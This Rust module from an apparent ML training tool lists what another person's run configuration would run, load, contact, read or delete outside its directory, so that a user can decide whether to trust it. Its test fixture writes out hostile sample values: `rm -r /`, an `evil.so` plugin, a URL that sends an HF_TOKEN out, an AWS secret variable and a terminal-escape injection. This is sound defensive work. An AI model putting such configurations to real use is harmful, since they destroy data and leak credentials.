//! Lists what the configuration of another person's run directory names outside of that directory, so that a person can
//! decide whether to trust it (`--trust`).

use std::path::Path;

use config::{Value, ValueKind};
use serde_json::Value as Json;

use super::reference;
use super::schema::DEFAULTS;
use super::yaml::{Map, child};

/// Keys below which every text is part of a command.
const COMMANDS: [&str; 3] = ["command", "on_finish", "on_metrics"];

/// The programs, libraries, addresses, environment variables and files that a configuration names, one line for each.
/// The configuration is taken as it is written: nothing is interpolated, opened or loaded.
pub(super) fn named_outside(map: &Map) -> Vec<String> {
    let mut lines = Vec::new();
    if reference::is_reference(map) {
        lines.push("a configuration of ROLL's, which no run writes".into());
    }
    list_map(map, "", &mut lines);
    lines
}

/// Adds the lines of the values in a map, which is the value of `key`.
fn list_map(map: &Map, key: &str, lines: &mut Vec<String>) {
    let mut names: Vec<&String> = map.keys().collect();
    names.sort();
    for name in names {
        list_value(&child(key, name.replace('[', ".").replace(']', "")), &map[name], lines);
    }
}

/// Adds the lines of a value.
fn list_value(key: &str, value: &Value, lines: &mut Vec<String>) {
    match &value.kind {
        ValueKind::Table(map) => list_map(map, key, lines),
        // A list of texts, such as the words of a command, is one line if any of the texts has an effect.
        ValueKind::Array(items) if items.iter().all(|item| matches!(item.kind, ValueKind::String(_))) => {
            let words: Vec<String> = items.iter().filter_map(|item| item.clone().into_string().ok()).collect();
            let first_effect = words.iter().find_map(|word| effect(key, word));
            lines.extend(first_effect.map(|effect| line(key, effect, &words)));
        }
        ValueKind::Array(items) => {
            items.iter().enumerate().for_each(|(i, item)| list_value(&child(key, i), item, lines));
        }
        ValueKind::String(text) => {
            lines.extend(effect(key, text).map(|effect| line(key, effect, std::slice::from_ref(text))));
        }
        // A small limit would delete what other runs keep in the user's cache.
        limit if key.ends_with("cache_limit") => {
            let is_default = match limit {
                ValueKind::U64(bytes) => default(key).is_some_and(|default| *default == *bytes),
                _ => false,
            };
            if !is_default {
                lines.push(format!("{key} deletes cached files beyond {limit} bytes"));
            }
        }
        _ => {}
    }
}

/// The default of a key; `None` for options of components.
fn default(key: &str) -> Option<&'static Json> {
    DEFAULTS.pointer(&format!("/{}", key.replace('.', "/")))
}

/// A line such as `on_finish runs "rm" "-rf"`. Key and texts are escaped, because they may hold characters that change
/// what a terminal shows.
fn line(key: &str, effect: &str, words: &[String]) -> String {
    let words: Vec<String> = words.iter().map(|word| format!("{word:?}")).collect();
    format!("{} {effect} {}", key.escape_debug(), words.join(" "))
}

/// The verb for what a run would do with the text at `key`; `None` if it does nothing outside of the run directory. The
/// first case that applies counts.
fn effect(key: &str, text: &str) -> Option<&'static str> {
    let is_below = |names: &[&str]| key.split('.').any(|part| names.contains(&part));
    // Without the index in a list.
    let last_name = key.rsplit('.').find(|part| part.parse::<usize>().is_err()).unwrap_or_default();
    let is_default = || default(key).is_some_and(|default| default == text);
    // A file, a directory, or a published model. A text with spaces is a prompt, unless such a file exists.
    let looks_like_path = !text.contains(char::is_whitespace) && text.contains(['/', '\\']);
    if text.is_empty() {
        None
    } else if is_below(&COMMANDS) {
        Some("runs")
    } else if is_below(&["plugins"]) {
        Some("loads")
    } else if is_below(&["defaults"]) {
        Some("reads the configuration")
    } else if text.contains("${") {
        Some("reads the environment or another value:")
    } else if last_name.ends_with("_env") || last_name == "environment" {
        Some("passes on the environment variable")
    } else if text.contains("://") || last_name == "url" {
        Some("contacts")
    } else if is_default() {
        None
    } else if last_name == "cache_dir" && !["auto", "none"].contains(&text) {
        Some("keeps files in")
    } else if last_name == "output_dir" {
        Some("writes to")
    } else if looks_like_path || Path::new(text).exists() {
        Some("opens")
    } else {
        None
    }
}

#[cfg(test)]
mod tests {
    use super::super::yaml::Document;
    use super::*;

    #[test]
    fn names_everything_outside_as_it_is_written() {
        let yaml = "seed: 1\non_finish: [sh, -c, 'touch M']\non_metrics: [tee, M]\nplugins: [evil.so]\noutput_dir: runs\nbackend: flex\n\
                    reward:\n- {name: command, command: [python, r.py], weight: 1}\n\
                    - {name: http, url: 'http://h/?k=${oc.env:HF_TOKEN}', token_env: AWS_SECRET}\n\
                    evaluation: {check: [{name: command, command: [\"a\\e[2Kb\"]}], prompts: [{prompt: a man / a cat}]}\n\
                    algo: {name: x, tools: [{name: t, command: [rm, -r, /]}]}\n\
                    data: {metadata: /home/a/clips.csv, cache_dir: kept, cache_limit: 0}\nmodel.lora_checkpoint: ../other\n\
                    env[0].command: [late]\ndefaults: [more]\n";
        let map = Document::parse(Path::new("config.yaml"), yaml.into()).unwrap().map;
        let found = named_outside(&map);
        for line in [
            r#"on_finish runs "sh" "-c" "touch M""#,
            r#"on_metrics runs "tee" "M""#,
            r#"plugins loads "evil.so""#,
            r#"reward.0.command runs "python" "r.py""#,
            r#"reward.1.url reads the environment or another value: "http://h/?k=${oc.env:HF_TOKEN}""#,
            r#"reward.1.token_env passes on the environment variable "AWS_SECRET""#,
            r#"evaluation.check.0.command runs "a\u{1b}[2Kb""#,
            r#"algo.tools.0.command runs "rm" "-r" "/""#,
            r#"data.metadata opens "/home/a/clips.csv""#,
            r#"data.cache_dir keeps files in "kept""#,
            "data.cache_limit deletes cached files beyond 0 bytes",
            r#"model.lora_checkpoint opens "../other""#,
            r#"env.0.command runs "late""#,
            r#"defaults reads the configuration "more""#,
        ] {
            assert!(found.iter().any(|found| found == line), "no {line} in {found:#?}");
        }
        for harmless in ["seed", "output_dir", "backend", "prompt"] {
            assert!(!found.iter().any(|line| line.starts_with(harmless) || line.contains(".prompt")), "{found:#?}");
        }
        let map = Document::parse(Path::new("config.yaml"), "seed: 1\ndata: {cache_limit: 21474836480}\n".into())
            .unwrap()
            .map;
        assert!(named_outside(&map).is_empty());
    }
}
